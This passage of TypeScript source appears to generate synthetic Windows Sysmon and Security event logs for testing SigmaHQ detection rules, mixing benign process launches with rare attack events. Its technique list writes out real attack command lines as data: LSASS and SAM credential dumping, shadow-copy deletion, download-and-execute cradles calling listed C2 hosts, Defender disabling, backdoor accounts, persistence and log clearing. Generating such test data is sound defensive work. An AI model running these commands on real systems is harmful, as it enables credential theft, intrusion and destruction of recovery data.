  { name: 'setup.exe', image: (c) => `${c.profile}\\AppData\\Local\\Temp\\{${guid(c.random)}}\\setup.exe`, args: (c) => `"${c.profile}\\AppData\\Local\\Temp\\{${guid(c.random)}}\\setup.exe" /s /v"/qn REBOOT=ReallySuppress"`, parents: ['explorer.exe', 'chrome.exe', 'msiexec.exe'], account: 'user', weight: 1, pe: vendorPe('Setup', 'InstallShield', 'Flexera Software LLC', 'setup.exe', '27.0.0.0') },
  // Developers and administrators.
  { name: 'git.exe', image: fixed('C:\\Program Files\\Git\\cmd\\git.exe'), args: (c) => `"C:\\Program Files\\Git\\cmd\\git.exe" ${pick(c.random, ['status -z -uall', 'fetch --all', `log --oneline -n ${between(c.random, 5, 50)}`, 'rev-parse --show-toplevel', `checkout feature/${pick(c.random, REPOS)}-${between(c.random, 100, 999)}`, 'pull --rebase'])}`, parents: ['Code.exe', 'cmd.exe', 'powershell.exe'], account: 'user', weight: 10, pe: vendorPe('Git for Windows', 'Git', 'The Git Development Community', 'git.exe', '2.45.1.windows.1') },
  { name: 'node.exe', image: fixed('C:\\Program Files\\nodejs\\node.exe'), args: (c) => `"C:\\Program Files\\nodejs\\node.exe" ${pick(c.random, ['node_modules\\typescript\\lib\\tsserver.js', 'node_modules\\.bin\\vite', 'node_modules\\eslint\\bin\\eslint.js src', '"C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install'])}`, parents: ['Code.exe', 'cmd.exe', 'powershell.exe'], account: 'user', weight: 4, pe: vendorPe('Node.js JavaScript Runtime', 'Node.js', 'Node.js', 'node.exe', '20.12.2') },
  { name: 'python.exe', image: (c) => `${c.profile}\\AppData\\Local\\Programs\\Python\\Python3${between(c.random, 9, 12)}\\python.exe`, args: (c) => `python ${pick(c.random, ['manage.py runserver', '-m pytest tests', '-m pip install -r requirements.txt', `scripts\\etl_${pick(c.random, REPOS)}.py --date 2024-05-${between(c.random, 10, 28)}`])}`, parents: ['cmd.exe', 'powershell.exe', 'Code.exe'], account: 'user', weight: 2, pe: vendorPe('Python', 'Python', 'Python Software Foundation', 'python.exe', '3.11.9') },
  { name: 'java.exe', image: (c) => `C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.${between(c.random, 8, 11)}.${between(c.random, 1, 9)}-hotspot\\bin\\java.exe`, args: (c) => `"C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.11.9-hotspot\\bin\\java.exe" -Xmx${pick(c.random, ['512m', '2g', '4g'])} -jar ${pick(c.random, ['build\\libs\\app.jar', 'gradle\\wrapper\\gradle-wrapper.jar', 'target\\service-1.4.2.jar'])}`, parents: ['cmd.exe', 'services.exe'], account: 'user', weight: 1, pe: vendorPe('OpenJDK Platform binary', 'OpenJDK Platform 17.0.11', 'Eclipse Adoptium', 'java.exe', '17.0.11.0') },
  { name: 'cmd.exe', image: system32('cmd.exe'), args: (c) => `C:\\Windows\\system32\\cmd.exe ${pick(c.random, ['/c ""C:\\Program Files\\Git\\cmd\\git.exe" status"', `/c "C:\\ProgramData\\Scripts\\backup_${between(c.random, 1, 20)}.bat"`, '/d /s /c "npm run build"', `/c echo %date% %time% >> C:\\Logs\\task${between(c.random, 1, 9)}.log`, '/c ver', '/K "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\Tools\\VsDevCmd.bat"', '/c ""C:\\Program Files\\nodejs\\npm.cmd" test"'])}`, parents: ['explorer.exe', 'Code.exe', 'svchost.exe', 'CcmExec.exe', 'java.exe'], account: 'user', weight: 10, pe: windowsPe('Windows Command Processor', 'Cmd.Exe') },
  { name: 'powershell.exe', image: system32('WindowsPowerShell\\v1.0\\powershell.exe'), args: (c) => `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ${pick(c.random, ['-NoProfile -NonInteractive -File C:\\ProgramData\\Scripts\\inventory.ps1', `-NoLogo -Command "Get-ChildItem '${c.profile}\\Documents' | Measure-Object"`, '-ExecutionPolicy RemoteSigned -File "C:\\Program Files\\CorpTools\\Sync-Printers.ps1"', '', `-NoProfile -Command "Import-Module ActiveDirectory; Get-ADUser ${pick(c.random, FIRST)} -Properties LastLogonDate"`])}`, parents: ['explorer.exe', 'cmd.exe', 'svchost.exe', 'CcmExec.exe', 'Code.exe'], account: 'user', weight: 6, pe: windowsPe('Windows PowerShell', 'PowerShell.EXE') },
  { name: 'schtasks.exe', image: system32('schtasks.exe'), args: (c) => `schtasks ${pick(c.random, ['/query /fo csv /nh', '/query /tn "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start"', '/run /tn "CorpInventory"'])}`, parents: ['cmd.exe', 'powershell.exe'], account: 'admin', weight: 1, pe: windowsPe('Task Scheduler Configuration Tool', 'schtasks.exe') },
  { name: 'sc.exe', image: system32('sc.exe'), args: (c) => `sc ${pick(c.random, ['query wuauserv', 'queryex type= service state= all', 'qc Spooler', 'start CorpAgent', 'config BITS start= delayed-auto'])}`, parents: ['cmd.exe', 'powershell.exe'], account: 'admin', weight: 1, pe: windowsPe('Service Control Manager Configuration Tool', 'sc.exe') },
  { name: 'reg.exe', image: system32('reg.exe'), args: (c) => `reg ${pick(c.random, ['query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion /v ProductName', 'query "HKCU\\Software\\Microsoft\\Office\\16.0\\Common" /s', 'query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters'])}`, parents: ['cmd.exe', 'powershell.exe'], account: 'user', weight: 1, pe: windowsPe('Registry Console Tool', 'reg.exe') },
  { name: 'ipconfig.exe', image: system32('ipconfig.exe'), args: (c) => `ipconfig ${pick(c.random, ['/all', '/flushdns', '/renew', ''])}`, parents: ['cmd.exe', 'powershell.exe'], account: 'user', weight: 1, pe: windowsPe('IP Configuration Utility', 'ipconfig.exe') },
  { name: 'PING.EXE', image: system32('PING.EXE'), args: (c) => `ping ${pick(c.random, ['-n 1', '-t', '-n 4'])} ${pick(c.random, ['intranet.contoso.local', '10.0.0.1', 'SRV-FS-0006', '8.8.8.8'])}`, parents: ['cmd.exe', 'powershell.exe'], account: 'user', weight: 1, pe: windowsPe('TCP/IP Ping Command', 'ping.exe') },
  { name: 'nslookup.exe', image: system32('nslookup.exe'), args: (c) => `nslookup ${pick(c.random, SITES)}`, parents: ['cmd.exe', 'powershell.exe'], account: 'user', weight: 0.5, pe: windowsPe('nslookup', 'nslookup.exe') },
  { name: 'robocopy.exe', image: system32('Robocopy.exe'), args: (c) => `robocopy "${c.profile}\\Documents" "\\\\SRV-FS-0006\\home$\\${c.user}\\Documents" /MIR /R:1 /W:1 /NP /LOG:C:\\Logs\\robocopy.log`, parents: ['cmd.exe', 'svchost.exe'], account: 'user', weight: 1, pe: windowsPe('Microsoft Robocopy', 'robocopy.exe') },
  { name: 'tasklist.exe', image: system32('tasklist.exe'), args: (c) => `tasklist ${pick(c.random, ['/fi "imagename eq chrome.exe"', '/v /fo csv', ''])}`, parents: ['cmd.exe', 'powershell.exe'], account: 'admin', weight: 0.5, pe: windowsPe('Lists the current running tasks', 'tasklist.exe') },
  { name: 'wevtutil.exe', image: system32('wevtutil.exe'), args: (c) => `wevtutil ${pick(c.random, ['qe Application /c:10 /f:text', 'gl Security', 'el'])}`, parents: ['cmd.exe', 'powershell.exe'], account: 'admin', weight: 0.3, pe: windowsPe('Eventing Command Line Utility', 'wevtutil.exe') },
  { name: 'sqlservr.exe', image: fixed('C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe'), args: () => '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER', parents: ['services.exe'], account: 'system', weight: 0.2, pe: vendorPe('SQL Server Windows NT - 64 Bit', 'Microsoft SQL Server', MS, 'sqlservr.exe', '2019.150.4355.3'), servers: true },
  { name: 'w3wp.exe', image: system32('inetsrv\\w3wp.exe'), args: (c) => `c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "${pick(c.random, ['DefaultAppPool', 'Intranet', 'MSExchangeOWAAppPool', 'ReportServer'])}" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm${guid(c.random).toLowerCase()} -h "C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0 -t 20 -ta 0`, parents: ['svchost.exe'], account: 'network-service', weight: 0.5, pe: windowsPe('IIS Worker Process', 'w3wp.exe'), servers: true },
  { name: 'csc.exe', image: fixed('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe'), args: (c) => `"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\${hex(c.random, 8, false)}\\${hex(c.random, 8, false)}\\${hex(c.random, 8, false)}.cmdline"`, parents: ['w3wp.exe'], account: 'network-service', weight: 0.3, pe: vendorPe('Visual C# Command Line Compiler', 'Microsoft® .NET Framework', MS, 'csc.exe', '4.8.4084.0'), servers: true },
];

const PROGRAMS_BY_NAME = new Map(PROGRAMS.map((program) => [program.name, program]));

/** Cumulative weights for picking a program as often as a real estate starts it. */
function createPicker<T extends { readonly weight: number }>(items: readonly T[]): (random: Random) => T {
  const cumulative: number[] = [];
  let total = 0;
  for (const item of items) {
    total += item.weight;
    cumulative.push(total);
  }
  return (random) => {
    const target = random() * total;
    let low = 0;
    let high = cumulative.length - 1;
    while (low < high) {
      const middle = (low + high) >> 1;
      if ((cumulative[middle] as number) > target) high = middle;
      else low = middle + 1;
    }
    return items[low] as T;
  };
}

const pickProgram = createPicker(PROGRAMS);

// ---------------------------------------------------------------------------------------------------
// Attack activity: what SigmaHQ process_creation rules are written for (ATT&CK technique in comments).

interface Technique {
  readonly image: string;
  readonly parent: string;
  readonly commandLine: (context: Context) => string;
  readonly originalFileName?: string;
}

const C2 = ['185.220.101.4', '45.137.21.9', '103.75.190.11', 'cdn-update.top', 'msupdate-cdn.net', 'files.transfer.sh'];
const TEMP_DROPS = ['C:\\Users\\Public\\svchost.exe', 'C:\\ProgramData\\update.exe', 'C:\\Windows\\Temp\\tmp3821.exe', 'C:\\Users\\Public\\Downloads\\a.ps1', 'C:\\PerfLogs\\run.bat'];
const url = (c: Context, file: string): string => `http://${pick(c.random, C2)}/${file}`;
const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;

const TECHNIQUES: readonly Technique[] = [
  // T1003.001 LSASS memory.
  { image: `${SYSTEM32}rundll32.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: (c) => `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${between(c.random, 500, 900)} C:\\Windows\\Temp\\lsass.dmp full` },
  { image: 'C:\\Users\\Public\\procdump64.exe', parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp', originalFileName: 'procdump' },
  { image: 'C:\\Users\\Public\\mimikatz.exe', parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', originalFileName: 'mimikatz.exe' },
  // T1003.002/.003 SAM and NTDS.
  { image: `${SYSTEM32}reg.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save' },
  { image: `${SYSTEM32}reg.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'reg save hklm\\system C:\\Windows\\Temp\\system.save' },
  { image: `${SYSTEM32}ntdsutil.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\ntds" q q', originalFileName: 'ntdsutil.exe' },
  // T1490 inhibit system recovery.
  { image: `${SYSTEM32}vssadmin.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'vssadmin.exe delete shadows /all /quiet', originalFileName: 'VSSADMIN.EXE' },
  { image: `${SYSTEM32}wbem\\WMIC.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'wmic shadowcopy delete', originalFileName: 'wmic.exe' },
  { image: `${SYSTEM32}bcdedit.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'bcdedit /set {default} recoveryenabled No', originalFileName: 'bcdedit.exe' },
  { image: `${SYSTEM32}wbadmin.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'wbadmin delete catalog -quiet', originalFileName: 'WBADMIN.EXE' },
  // T1105 ingress tool transfer, T1218 system binary proxy execution.
  { image: `${SYSTEM32}certutil.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: (c) => `certutil.exe -urlcache -split -f ${url(c, 'a.exe')} ${pick(c.random, TEMP_DROPS)}`, originalFileName: 'CertUtil.exe' },
  { image: `${SYSTEM32}certutil.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'certutil -decode C:\\Users\\Public\\enc.txt C:\\Users\\Public\\payload.exe', originalFileName: 'CertUtil.exe' },
  { image: `${SYSTEM32}bitsadmin.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: (c) => `bitsadmin /transfer job${between(c.random, 1, 99)} /download /priority high ${url(c, 'p.exe')} C:\\Users\\Public\\p.exe`, originalFileName: 'bitsadmin.exe' },
  { image: `${SYSTEM32}mshta.exe`, parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', commandLine: (c) => `mshta.exe ${url(c, 'index.hta')}`, originalFileName: 'MSHTA.EXE' },
  { image: `${SYSTEM32}regsvr32.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: (c) => `regsvr32 /s /n /u /i:${url(c, 'file.sct')} scrobj.dll`, originalFileName: 'REGSVR32.EXE' },
  { image: `${SYSTEM32}rundll32.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://raw.githubusercontent.com/x/y/master/a.sct")' },
  { image: `${SYSTEM32}cmstp.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'cmstp.exe /ni /s C:\\Users\\Public\\a.inf', originalFileName: 'CMSTP.EXE' },
  { image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe', parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\payload.dll', originalFileName: 'InstallUtil.exe' },
  { image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe', parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'MSBuild.exe C:\\Users\\Public\\Downloads\\build.xml', originalFileName: 'MSBuild.exe' },
  { image: `${SYSTEM32}odbcconf.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'odbcconf.exe /a {REGSVR C:\\Users\\Public\\t.dll}', originalFileName: 'odbcconf.exe' },
  { image: `${SYSTEM32}curl.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: (c) => `curl.exe -o C:\\Users\\Public\\s.exe ${url(c, 's.exe')}`, originalFileName: 'curl.exe' },
  // T1059.001 PowerShell.
  { image: POWERSHELL, parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', commandLine: (c) => `powershell.exe -nop -w hidden -enc ${encoded(`IEX (New-Object Net.WebClient).DownloadString('${url(c, 'a.ps1')}')`)}` },
  { image: POWERSHELL, parent: `${SYSTEM32}cmd.exe`, commandLine: (c) => `powershell -ExecutionPolicy Bypass -c "IEX (New-Object Net.WebClient).DownloadString('${url(c, 'Invoke-Mimikatz.ps1')}'); Invoke-Mimikatz -DumpCreds"` },
  { image: POWERSHELL, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"' },
  { image: POWERSHELL, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'powershell.exe Add-MpPreference -ExclusionPath C:\\Users\\Public' },
  { image: POWERSHELL, parent: `${SYSTEM32}wbem\\WmiPrvSE.exe`, commandLine: (c) => `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encoded('$c=New-Object System.Net.Sockets.TCPClient("10.0.0.5",443)')}` },
  { image: POWERSHELL, parent: 'C:\\Windows\\explorer.exe', commandLine: (c) => `powershell -c "Invoke-WebRequest -Uri ${url(c, 'nc.exe')} -OutFile C:\\Users\\Public\\nc.exe"` },
  // T1087 / T1482 discovery.
  { image: `${SYSTEM32}whoami.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'whoami /priv', originalFileName: 'whoami.exe' },
  { image: `${SYSTEM32}whoami.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'whoami /all', originalFileName: 'whoami.exe' },
  { image: `${SYSTEM32}nltest.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'nltest /domain_trusts /all_trusts', originalFileName: 'nltestrk.exe' },
  { image: 'C:\\Users\\Public\\AdFind.exe', parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'AdFind.exe -f (objectcategory=computer) -csv name operatingSystem', originalFileName: 'AdFind.exe' },
  { image: `${SYSTEM32}net.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'net group "domain admins" /domain', originalFileName: 'net.exe' },
  { image: `${SYSTEM32}net.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'net user backup$ P@ssw0rd123 /add', originalFileName: 'net.exe' },
  { image: `${SYSTEM32}net.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'net localgroup administrators backup$ /add', originalFileName: 'net.exe' },
  { image: `${SYSTEM32}systeminfo.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'systeminfo', originalFileName: 'sysinfo.exe' },
  // T1053 / T1547 persistence.
  { image: `${SYSTEM32}schtasks.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: (c) => `schtasks /create /sc minute /mo 30 /tn "WindowsUpdateCheck" /tr "powershell -w hidden -c IEX(iwr ${url(c, 'u.ps1')})" /ru SYSTEM /f`, originalFileName: 'schtasks.exe' },
  { image: `${SYSTEM32}reg.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\Users\\Public\\svchost.exe" /f', originalFileName: 'reg.exe' },
  { image: `${SYSTEM32}sc.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'sc create UpdateSvc binPath= "C:\\ProgramData\\update.exe" start= auto', originalFileName: 'sc.exe' },
  // T1562 / T1070 defence evasion.
  { image: `${SYSTEM32}wevtutil.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'wevtutil cl Security', originalFileName: 'wevtutil.exe' },
  { image: `${SYSTEM32}netsh.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'netsh advfirewall set allprofiles state off', originalFileName: 'netsh.exe' },
  { image: `${SYSTEM32}fsutil.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'fsutil usn deletejournal /d C:', originalFileName: 'fsutil.exe' },
  { image: `${SYSTEM32}taskkill.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'taskkill /f /im MsMpEng.exe', originalFileName: 'taskkill.exe' },
  { image: `${SYSTEM32}icacls.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'icacls "C:\\ProgramData" /grant Everyone:F /T /C /Q', originalFileName: 'iCACLS.EXE' },
  // T1021 lateral movement.
  { image: 'C:\\Users\\Public\\PsExec64.exe', parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'PsExec64.exe \\\\SRV-FS-0006 -accepteula -s cmd.exe', originalFileName: 'psexec.c' },
  { image: `${SYSTEM32}wbem\\WMIC.exe`, parent: `${SYSTEM32}cmd.exe`, commandLine: () => 'wmic /node:SRV-APP-0012 process call create "cmd.exe /c C:\\ProgramData\\update.exe"', originalFileName: 'wmic.exe' },
  // T1560 archive collected data.
  { image: 'C:\\Program Files\\7-Zip\\7z.exe', parent: `${SYSTEM32}cmd.exe`, commandLine: () => '7z.exe a -pInfected123 -mhe=on C:\\Users\\Public\\out.7z C:\\Users\\Public\\Documents\\*', originalFileName: '7z.exe' },
];

/** A web shell: a web server of the generators' catalogue spawning a shell or recon tool (T1505.003). */
function createWebShellTechnique(random: Random): Technique {
  const server = pick(random, WEB_SERVERS);
  const child = pick(random, [
    [`${SYSTEM32}cmd.exe`, 'cmd.exe /c whoami'],
    [`${SYSTEM32}cmd.exe`, 'cmd.exe /c "cd /d C:\\inetpub\\wwwroot&ipconfig /all&echo [S]&cd&echo [E]"'],
    [`${SYSTEM32}whoami.exe`, 'whoami /all'],
    [POWERSHELL, 'powershell -nop -c "Get-Process"'],
    [`${SYSTEM32}net.exe`, 'net user'],
  ] as const);
  return { image: child[0], parent: pick(random, server.paths), commandLine: () => child[1] };
}

// ---------------------------------------------------------------------------------------------------
// Rendering process creations.

const integrityOf = (account: Account): string =>
  account === 'user' ? 'Medium' : account === 'admin' ? 'High' : 'System';
const userOf = (account: Account, context: Context): string => {
  switch (account) {
    case 'system':
      return 'NT AUTHORITY\\SYSTEM';
    case 'local-service':
      return 'NT AUTHORITY\\LOCAL SERVICE';
    case 'network-service':
      return 'NT AUTHORITY\\NETWORK SERVICE';
    case 'user':
    case 'admin':
      return `CONTOSO\\${context.user}`;
  }
};
const MANDATORY: Readonly<Record<string, string>> = { Low: 'S-1-16-4096', Medium: 'S-1-16-8192', High: 'S-1-16-12288', System: 'S-1-16-16384' };

let clock = Date.UTC(2024, 4, 14, 6, 0, 0);
const nextTime = (random: Random): string => {
  clock += Math.floor(random() * 90);
  return new Date(clock).toISOString().replace('T', ' ').replace('Z', '');
};

function createContext(random: Random, estate: Estate, servers = false): Context {
  let host = pick(random, estate.hosts);
  if (servers && !host.server) host = estate.hosts[Math.floor(random() * 100) * 6] as Host;
  const user = pick(random, host.users);
  return { random, host, user, profile: `C:\\Users\\${user}` };
}

interface ProcessFacts {
  readonly image: string;
  readonly commandLine: string;
  readonly parentImage: string;
  readonly parentCommandLine: string;
  readonly account: Account;
  readonly pe: Pe;
}

function describeBackground(random: Random, estate: Estate): { facts: ProcessFacts; context: Context } {
  const program = pickProgram(random);
  const context = createContext(random, estate, program.servers);
  const parentName = pick(random, program.parents);
  const parent = parentName === '' ? undefined : PROGRAMS_BY_NAME.get(parentName);
  return {
    context,
    facts: {
      image: program.image(context),
      commandLine: program.args(context),
      parentImage: parent ? parent.image(context) : '',
      parentCommandLine: parent ? parent.args(context) : '',
      account: program.account,
      pe: program.pe,
    },
  };
}

function describeAttack(random: Random, estate: Estate): { facts: ProcessFacts; context: Context } {
  const webShell = random() < 0.15;
  const technique = webShell ? createWebShellTechnique(random) : pick(random, TECHNIQUES);
  const context = createContext(random, estate, webShell);
  const name = technique.image.slice(technique.image.lastIndexOf('\\') + 1);
  const parentName = technique.parent.slice(technique.parent.lastIndexOf('\\') + 1);
  const parentProgram = PROGRAMS_BY_NAME.get(parentName);
  return {
    context,
    facts: {
      image: technique.image,
      commandLine: technique.commandLine(context),
      parentImage: technique.parent,
      parentCommandLine: parentProgram ? parentProgram.args(context) : `"${technique.parent}"`,
      account: webShell ? 'network-service' : 'admin',
      pe: windowsPe(name.replace(/\.exe$/i, ''), technique.originalFileName ?? name),
    },
  };
}

function renderSysmon1(facts: ProcessFacts, context: Context): Record<string, unknown> {
  const { random } = context;
  const integrity = integrityOf(facts.account);
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: `${context.host.name}.contoso.local`,
    RuleName: '-',
    UtcTime: nextTime(random),
    ProcessGuid: `{${guid(random)}}`,
    ProcessId: between(random, 400, 60000),
    Image: facts.image,
    FileVersion: facts.pe.fileVersion,
    Description: facts.pe.description,
    Product: facts.pe.product,
    Company: facts.pe.company,
    OriginalFileName: facts.pe.originalFileName,
    CommandLine: facts.commandLine,
    CurrentDirectory: facts.account === 'user' ? `${context.profile}\\` : 'C:\\Windows\\system32\\',
    User: userOf(facts.account, context),
    LogonGuid: `{${guid(random)}}`,
    LogonId: `0x${hex(random, 6, false)}`,
    TerminalSessionId: facts.account === 'user' ? between(random, 1, 3) : 0,
    IntegrityLevel: integrity,
    Hashes: `SHA1=${hex(random, 40)},MD5=${hex(random, 32)},SHA256=${hex(random, 64)},IMPHASH=${hex(random, 32)}`,
    ParentProcessGuid: `{${guid(random)}}`,
    ParentProcessId: between(random, 400, 60000),
    ParentImage: facts.parentImage,
    ParentCommandLine: facts.parentCommandLine,
    ParentUser: userOf(facts.account === 'admin' ? 'user' : facts.account, context),
  };
}

function renderSecurity4688(facts: ProcessFacts, context: Context): Record<string, unknown> {
  const { random } = context;
  const user = userOf(facts.account, context);
  const [domain, name] = user.split('\\') as [string, string];
  return {
    EventID: 4688,
    Channel: 'Security',
    Computer: `${context.host.name}.contoso.local`,
    TimeCreated: nextTime(random),
    SubjectUserSid: facts.account === 'system' ? 'S-1-5-18' : `S-1-5-21-1004336348-1177238915-682003330-${between(random, 1100, 9000)}`,
    SubjectUserName: name,
    SubjectDomainName: domain,
    SubjectLogonId: `0x${hex(random, 6, false)}`,
    NewProcessId: `0x${between(random, 400, 60000).toString(16)}`,
    NewProcessName: facts.image,
    TokenElevationType: facts.account === 'admin' ? '%%1937' : '%%1936',
    ProcessId: `0x${between(random, 400, 60000).toString(16)}`,
    CommandLine: facts.commandLine,
    TargetUserSid: 'S-1-0-0',
    TargetUserName: '-',
    TargetDomainName: '-',
    TargetLogonId: '0x0',
    ParentProcessName: facts.parentImage,
    MandatoryLabel: MANDATORY[integrityOf(facts.account)],
  };
}

/** The share of process creations that is attack activity. */
export const ATTACK_SHARE = 0.004;

function createProcessCreation(random: Random, estate: Estate, attackShare = ATTACK_SHARE): { event: Record<string, unknown>; attack: boolean } {
  const attack = random() < attackShare;
  const { facts, context } = attack ? describeAttack(random, estate) : describeBackground(random, estate);
  return { event: random() < 0.1 ? renderSecurity4688(facts, context) : renderSysmon1(facts, context), attack };
}

// ---------------------------------------------------------------------------------------------------
// Other log sources, for the run with every Windows rule.

const DLLS = ['ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'user32.dll', 'advapi32.dll', 'combase.dll', 'ole32.dll', 'shell32.dll', 'crypt32.dll', 'wininet.dll', 'ws2_32.dll', 'bcrypt.dll', 'clr.dll', 'mscoree.dll', 'amsi.dll', 'dbghelp.dll', 'winhttp.dll', 'vaultcli.dll', 'samlib.dll', 'wldp.dll'];
const PORTS = [443, 443, 443, 80, 53, 445, 135, 389, 88, 3389, 5985, 8080];
const REG_KEYS = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts', 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings', 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates', 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming', 'HKLM\\SOFTWARE\\Policies\\Google\\Update', 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Memory Management\\PrefetchParameters'];
const SCRIPTS = ['Get-ChildItem -Path $env:TEMP -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item', 'Import-Module ActiveDirectory\nGet-ADUser -Filter * -SearchBase "OU=Staff,DC=contoso,DC=local" | Select-Object Name', '$printers = Get-Printer; foreach ($p in $printers) { Write-Output $p.Name }', 'param([string]$Path)\nTest-Path $Path', '{ Set-StrictMode -Version 1; $_.PSMessageDetails }', 'prompt'];

interface Source {
  readonly weight: number;
  readonly render: (random: Random, estate: Estate, attack: boolean) => Record<string, unknown>;
}

const sysmon = (eventId: number, context: Context, fields: Record<string, unknown>): Record<string, unknown> => ({
  EventID: eventId,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Computer: `${context.host.name}.contoso.local`,
  RuleName: '-',
  UtcTime: nextTime(context.random),
  ...fields,
});

const SOURCES: readonly Source[] = [
  { weight: 18, render: (random, estate, attack) => createProcessCreation(random, estate, attack ? 1 : 0).event },
  {
    // Sysmon 3, network connection (T1071: LOLBins reaching the internet; mostly browsers and services).
    weight: 18,
    render: (random, estate, attack) => {
      const { facts, context } = describeBackground(random, estate);
      const image = attack ? pick(random, [`${SYSTEM32}rundll32.exe`, `${SYSTEM32}regsvr32.exe`, `${SYSTEM32}mshta.exe`, `${SYSTEM32}certutil.exe`, POWERSHELL]) : facts.image;
      const port = attack ? pick(random, [443, 4444, 8080]) : pick(random, PORTS);
      return sysmon(3, context, {
        ProcessGuid: `{${guid(random)}}`, ProcessId: between(random, 400, 60000), Image: image, User: userOf(facts.account, context), Protocol: 'tcp', Initiated: 'true',
        SourceIsIpv6: 'false', SourceIp: `10.${between(random, 0, 20)}.${between(random, 0, 255)}.${between(random, 1, 254)}`, SourceHostname: `${context.host.name}.contoso.local`, SourcePort: between(random, 49152, 65535), SourcePortName: '-',
